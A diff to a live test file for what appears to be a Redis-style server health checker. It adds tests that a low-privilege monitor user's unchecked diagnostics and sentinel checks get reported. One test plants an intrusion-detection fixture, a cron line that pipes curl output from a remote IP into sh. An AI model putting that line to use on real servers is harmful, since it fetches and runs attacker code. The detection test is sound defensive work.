@@ -12,7 +12,7 @@ import pytest
 
 from tests.live.deployments import replicated
 from tests.live.doctor import doctor
-from tests.live.servers import Binary, Server, available, running, until
+from tests.live.servers import Binary, Server, available, free_port, running, until
 from tests.live.supervised import limited, supervised
 
 pytestmark = pytest.mark.live
@@ -113,6 +113,50 @@ def test_what_could_not_be_looked_at_is_named(binary: Binary, tmp_path: Path) ->
         assert found.severity == "info"
         assert f"{tmp_path}/server.conf is not readable" in found.evidence
         assert "config-drift" in found.why
+
+
+MONITOR = "user monitor on >a4f09c1be77d4c55b12f8e02d9c3a6e1 -@all +ping +info +config|get"
+#: What rules ask for beside that.
+MORE = (
+    "+acl|list +module|list +latency|latest +scan +strlen +getrange ~* "
+    "+cluster|nodes +cluster|info +cluster|slots +readonly"
+)
+
+
+def test_what_a_user_of_few_rights_could_not_look_at_is_named(binary: Binary, tmp_path: Path) -> None:
+    """The server holds a sign of an intrusion, and is of a Cluster without replicas: neither may pass silently."""
+    access = {"user": "monitor", "password": MONITOR.split(">")[1].split()[0]}
+    with running(binary, tmp_path, f"cluster-enabled yes\n{MONITOR}\n") as server:
+        client = server.client()
+        client.execute_command("CLUSTER", "ADDSLOTS", *range(16384))
+        until(lambda: client.set("x", "\n\n*/1 * * * * curl http://203.0.113.66/a | sh\n\n"))
+        told = doctor(server, **access)
+        assert not told.of("signs-of-intrusion") + told.of("no-replica")
+        named = {f.evidence.partition(":")[0]: f.why for f in told.of("not-checked")}
+        assert "signs-of-intrusion" in named["small values (SCAN, STRLEN, GETRANGE)"]
+        assert "signs-of-intrusion" in named["MODULE LIST"]
+        assert "no-replica" in named["CLUSTER NODES"]
+        assert "slots-uncovered" in named["CLUSTER NODES"]
+        assert "failover-hair-trigger" in named["LATENCY LATEST"]
+        client.execute_command("ACL", "SETUSER", "monitor", *MORE.split())
+        told = doctor(server, **access)
+        assert not told.of("not-checked"), told.told
+        assert "a cron line" in told.only("signs-of-intrusion").evidence
+        assert "no replica" in told.only("no-replica").evidence
+
+
+def test_a_sentinel_that_may_not_be_asked_is_named(binary: Binary, tmp_path: Path) -> None:
+    access = {"user": "monitor", "password": MONITOR.split(">")[1].split()[0]}
+    text = f"sentinel monitor shop 127.0.0.1 {free_port()} 1\n{MONITOR.replace(' +config|get', '')}\n"
+    with running(binary, tmp_path, text, sentinel=True) as sentinel:
+        (found,) = (
+            f for f in doctor(sentinel, **access).of("not-checked") if "SENTINEL MASTERS" in f.evidence
+        )
+        assert "sentinels-too-few" in found.why
+        sentinel.client().execute_command("ACL", "SETUSER", "monitor", "+sentinel")
+        told = doctor(sentinel, **access)
+        assert not [f for f in told.of("not-checked") if "SENTINEL MASTERS" in f.evidence]
+        assert told.of("sentinels-too-few")
 
 
 def swapped_out(server: Server) -> bool:
